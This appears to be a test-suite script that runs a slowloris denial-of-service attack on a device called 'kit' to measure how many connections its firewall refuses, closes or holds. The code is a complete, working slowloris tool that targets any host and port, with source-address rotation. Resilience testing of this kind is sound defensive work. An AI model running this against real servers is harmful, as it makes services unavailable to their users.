"""One phone's slowloris, as a process (run in a network namespace by the netns test):

    python tests/slowloris.py HOST PORT CONNECTIONS SECONDS [SOURCE_ADDRESS[,SOURCE_ADDRESS…]]

opens CONNECTIONS connections (from the source addresses in turn), sends each the start of a request that never ends, prints
"ready OPENED" once all were tried, then sends one more header line per second on each
connection still open for SECONDS, and prints a JSON summary: how many were refused at
once (reset or refused by the kit or its firewall), how many the kit closed later, and how
many it still held at the end.
"""
from __future__ import annotations

import json
import socket
import sys
import time

START = b"GET / HTTP/1.1\r\nHost: kit.lan\r\nUser-Agent: slowloris\r\n"


def attack(host: str, port: int, count: int, seconds: float, sources: list[str] = ()) -> dict:
    held, refused = [], 0
    for i in range(count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.settimeout(2)
        try:
            if sources:
                sock.bind((sources[i % len(sources)], 0))
            sock.connect((host, port))
            sock.sendall(START)
            held.append(sock)
        except OSError:
            refused += 1
            sock.close()
    print(f"ready {len(held)}", flush=True)
    closed = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and held:
        time.sleep(1)
        for sock in list(held):
            try:
                sock.sendall(b"X-Slow: 1\r\n")  # one line a second: the request never ends
                sock.settimeout(0)
                if sock.recv(1) == b"":  # the kit closed it (or sent a reset)
                    raise ConnectionResetError
            except BlockingIOError:
                pass  # nothing to read: still held
            except OSError:
                closed += 1
                held.remove(sock)
                sock.close()
    summary = {"refused": refused, "closed": closed, "held": len(held)}
    for sock in held:
        sock.close()
    return summary


if __name__ == "__main__":
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    print(json.dumps(attack(host, port, count, seconds, sys.argv[5].split(",") if len(sys.argv) > 5 else [])),
          flush=True)
